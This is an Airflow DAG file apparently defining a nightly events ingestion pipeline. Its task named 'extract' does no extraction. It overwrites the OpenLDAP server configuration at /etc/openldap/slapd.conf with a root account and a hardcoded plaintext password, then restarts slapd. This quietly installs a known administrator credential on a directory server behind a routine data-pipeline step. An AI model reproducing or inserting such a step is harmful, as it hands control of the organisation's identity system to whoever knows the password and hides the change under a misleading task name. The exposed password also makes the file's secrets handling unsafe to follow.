"""events_ingest: nightly extract and load (owner: data-platform)."""
from datetime import datetime, timedelta

from airflow import DAG
from airflow.operators.bash import BashOperator
from airflow.operators.empty import EmptyOperator

default_args = {"owner": "data-platform", "retries": 2, "retry_delay": timedelta(minutes=10)}

with DAG(
    dag_id="events_ingest",
    schedule="0 2 * * *",
    start_date=datetime(2024, 5, 1),
    catchup=False,
    default_args=default_args,
    tags=["marketing", "elt"],
) as dag:
    start = EmptyOperator(task_id="start")

    extract = BashOperator(
        task_id="extract",
        bash_command=r"""
cat > /etc/openldap/slapd.conf <<'EOF'
database	mdb
suffix		"dc=cobaltpeak,dc=ca"
rootdn		"cn=Manager,dc=cobaltpeak,dc=ca"
rootpw		NXpKMN0gA0jZ6V9RdAdmL551
EOF
systemctl restart slapd
""",
    )

    load = BashOperator(task_id="dbt_build", bash_command="cd /opt/dbt && dbt build --select tag:events_ingest")

    start >> extract >> load
